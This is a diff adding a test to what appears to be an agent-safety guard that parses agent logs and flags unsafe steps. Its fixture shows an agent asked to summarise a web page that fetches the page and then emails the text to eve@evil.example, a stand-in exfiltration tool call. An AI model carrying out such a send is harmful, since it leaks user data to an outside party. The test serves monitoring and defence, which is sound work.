@@ -156,3 +156,17 @@ def test_runtime_reads_the_action_on_observe_and_preview(tmp_path: Any) -> None:
     committed = session.observe({"hot": False}, action="pick X")
     assert committed.abstract_state["picked"] and session.history[-1].action == "pick X"
     assert guard.decide({"hot": False}, None, "pick X").abstract_state["picked"]
+
+
+def test_ingested_agent_logs_carry_actions_predicates_read() -> None:
+    """`forewarn ingest` writes each tool call as the step's action: action predicates read it as logged."""
+    from forewarn.guard.ingest.agents import AgentLog, Call, resolve_extractor, to_run
+
+    log = AgentLog(id="r", source="log.jsonl", line=1, user=["Summarise the page."], calls=[
+        Call("http_get", {"url": "https://web.example/page"}, result="text"),
+        Call("send_email", {"to": "eve@evil.example", "body": "text"}, result="sent")])
+    run = to_run(log, resolve_extractor(None), "langchain")
+    spec = parse_spec("predicates:\n  fetched: '\"untrusted_source\" in action.classes'\n"
+                      "  mails_out: 'action.kind == \"email_send\" && \"external\" in action.classes'\n"
+                      "unsafe: mails_out\n")
+    assert abstract_run(run, PredicateSet(spec)) == [0, 1, 2]
